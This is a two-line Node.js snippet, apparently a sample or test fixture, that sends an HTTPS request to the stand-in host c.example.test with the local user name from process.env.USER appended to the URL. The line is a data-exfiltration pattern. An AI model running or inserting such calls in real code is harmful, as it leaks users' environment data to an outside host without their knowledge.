const https = require("https");
https.get("https://c.example.test/" + process.env.USER);
